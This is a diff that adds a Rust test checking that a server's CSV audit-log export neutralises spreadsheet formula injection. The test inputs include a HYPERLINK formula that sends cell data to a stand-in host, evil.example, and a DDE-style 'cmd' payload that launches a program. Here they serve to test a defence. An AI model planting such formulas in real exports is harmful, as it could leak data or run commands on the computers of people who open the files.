@@ -287,6 +287,45 @@ async fn an_answer_says_its_date_its_context_and_its_compared_periods() {
 }
 
 #[tokio::test]
+async fn audit_csv_cells_never_start_a_formula() {
+    let s = TestServer::new();
+    let token = s.token("acme", Privacy::Standard);
+    let questions = [
+        r#"=HYPERLINK("https://evil.example/?"&A1,"total revenue")"#,
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd",
+        "\t=1",
+    ];
+    for q in questions {
+        let r = s.post("/api/v1/ask", Some(&token), ask_body(q)).await;
+        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    }
+    let admin = s.keys().admin_key.clone();
+    let csv = s
+        .get("/api/v1/admin/audit?format=csv&tenant=acme", Some(&admin))
+        .await
+        .text();
+    for q in questions {
+        let plain = format!(",'{q},");
+        let quoted = format!(",\"'{}\",", q.replace('"', "\"\""));
+        assert!(
+            csv.contains(&plain) || csv.contains(&quoted),
+            "{q:?} not neutralised in:\n{csv}"
+        );
+    }
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {line}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
 async fn feedback_is_rate_limited_per_user() {
     let s = TestServer::with_config(AppConfig {
         quotas: Quotas {
